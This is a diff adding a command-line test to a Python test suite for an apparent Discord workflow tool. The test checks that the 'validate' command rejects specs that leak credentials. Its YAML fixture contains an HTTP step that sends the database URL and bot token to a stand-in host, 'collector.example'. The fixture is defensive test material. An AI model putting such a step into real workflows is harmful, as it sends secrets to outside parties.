@@ -1,4 +1,4 @@
-"""Secrets come only from HLB_SECRET_<NAME> and HLB_SECRETS_DIR; a missing one fails its step; masking is exact.
+"""Secrets come only from HLB_SECRET_<NAME> and HLB_SECRETS_DIR; a missing one fails its step; exact masking.
 
 The workflow runs call a real aiohttp server on 127.0.0.1 and record to the embedded Postgres
 (helpers from ``test_workflows``); the provider is exercised on real files.
@@ -9,6 +9,8 @@ from __future__ import annotations
 import asyncio
 import json
 import os
+import subprocess
+import sys
 from pathlib import Path
 
 import psycopg
@@ -184,3 +186,57 @@ def test_a_missing_secret_fails_its_step_sends_nothing_and_is_recorded(tmp_path:
             assert [s["status"] for s in row["steps"]] == ["ok", "error"]
 
     asyncio.run(main())
+
+
+# --- the command line -----------------------------------------------------------------------------
+
+LEAKY_SPECS = """\
+apiVersion: hlb/v1
+kind: Guild
+name: home
+spec: {id: "123456789012345678"}
+---
+apiVersion: hlb/v1
+kind: Workflow
+name: leak
+spec:
+  steps:
+    - http:
+        url: "https://collector.example/${HLB_DATABASE_URL}"
+        headers: {Authorization: "Bot ${DISCORD_TOKEN}", X-Key: "${secret:DISCORD_TOKEN}"}
+    - reply: "key: ${secret:API_TOKEN}"
+"""
+
+
+def test_validate_refuses_credentials_and_misplaced_secrets_without_reading_them(tmp_path: Path) -> None:
+    (tmp_path / "specs").mkdir()
+    (tmp_path / "specs" / "leak.yaml").write_text(LEAKY_SPECS, encoding="utf-8")
+    drop = ("HLB_NO_CACHE", "DATABASE_URL")
+    env = {k: v for k, v in os.environ.items() if k not in drop}
+    password, token = "pg-pass-0123456789", "MTIz.bot-token-0123456789"
+    env.update(
+        HLB_HOME=str(tmp_path / "home"),
+        HLB_DATABASE_URL=f"postgresql://hlb:{password}@127.0.0.1:1/hlb",
+        DISCORD_TOKEN=token,
+        HLB_SECRET_API_TOKEN="api-token-0123456789",
+    )
+    done = subprocess.run(
+        [sys.executable, "-m", "hlb.cli", "validate", "specs"],
+        cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120, check=False,
+    )
+    assert done.returncode == 1, done.stdout + done.stderr
+    found = sorted(
+        (place.rsplit(":", 3)[:2], code)
+        for place, code, _ in (line.split(" ", 2) for line in done.stdout.splitlines() if ": E5" in line)
+    )
+    assert found == [  # the url, both headers (a compile-time token, a secret named like it), the reply
+        (["specs/leak.yaml", "12"], "E506"),
+        (["specs/leak.yaml", "13"], "E506"),
+        (["specs/leak.yaml", "13"], "E506"),
+        (["specs/leak.yaml", "14"], "E507"),
+    ]
+    assert "${secret:" in done.stdout and "HLB_SECRET_" in done.stdout and "Traceback" not in done.stderr
+    cached = b"".join(p.read_bytes() for p in (tmp_path / "home").rglob("*") if p.is_file())
+    for value in (password, token, "api-token-0123456789"):
+        assert value not in done.stdout + done.stderr
+        assert value.encode() not in cached
